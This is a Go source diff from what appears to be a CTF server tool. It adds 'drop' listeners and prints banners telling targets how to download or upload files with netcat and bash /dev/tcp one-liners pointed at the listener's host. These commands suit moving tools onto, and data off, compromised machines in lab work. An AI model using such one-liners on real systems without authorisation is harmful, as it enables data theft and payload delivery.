@@ -0,0 +1,61 @@
+package server
+
+import (
+	"fmt"
+	"net"
+	"os"
+	"path"
+
+	"github.com/m1kkY8/ctfserver/pkg/drop"
+	"github.com/m1kkY8/ctfserver/pkg/logger"
+	"github.com/m1kkY8/ctfserver/pkg/util"
+)
+
+// startDrops serves the drop listeners in the background, reporting failed
+// listeners on serveErrors
+func (s *Server) startDrops(serveErrors chan<- error) {
+	fmt.Fprintln(os.Stdout, "Drop ports:")
+	for _, dropConfig := range s.config.Drops {
+		addr := dropConfig.Addr
+		host, port, _ := net.SplitHostPort(addr)
+
+		// An interface name binds its first address
+		if util.IsInterfaceName(host) {
+			ips := util.InterfaceIPs(host)
+			if len(ips) == 0 {
+				serveErrors <- fmt.Errorf("drop listener %s: interface has no addresses", addr)
+				continue
+			}
+			addr = net.JoinHostPort(ips[0].String(), port)
+		}
+
+		logger.Logger.WithFields(map[string]interface{}{
+			"addr":   addr,
+			"serve":  dropConfig.Serve,
+			"header": dropConfig.Header,
+		}).Info("Starting drop listener")
+		go func() {
+			if err := s.dropServer.ListenAndServe(addr, dropConfig); err != nil && err != drop.ErrServerClosed {
+				serveErrors <- fmt.Errorf("drop listener %s: %w", addr, err)
+			}
+		}()
+
+		printDropBanner(advertiseHost(host), port, dropConfig.Serve, dropConfig.Header)
+	}
+}
+
+// printDropBanner prints how targets with netcat or bash use a drop port
+func printDropBanner(host, port, serve string, header bool) {
+	switch {
+	case serve != "":
+		name := path.Base(serve)
+		fmt.Fprintf(os.Stdout, "  download: nc %s %s > %s\n", host, port, name)
+		fmt.Fprintf(os.Stdout, "            bash: cat < /dev/tcp/%s/%s > %s\n", host, port, name)
+	case header:
+		fmt.Fprintf(os.Stdout, "  upload:   (echo FILE; cat FILE) | nc -q0 %s %s\n", host, port)
+		fmt.Fprintf(os.Stdout, "            bash: (echo FILE; cat FILE) > /dev/tcp/%s/%s\n", host, port)
+	default:
+		fmt.Fprintf(os.Stdout, "  upload:   nc -q0 %s %s < FILE\n", host, port)
+		fmt.Fprintf(os.Stdout, "            bash: cat FILE > /dev/tcp/%s/%s\n", host, port)
+	}
+}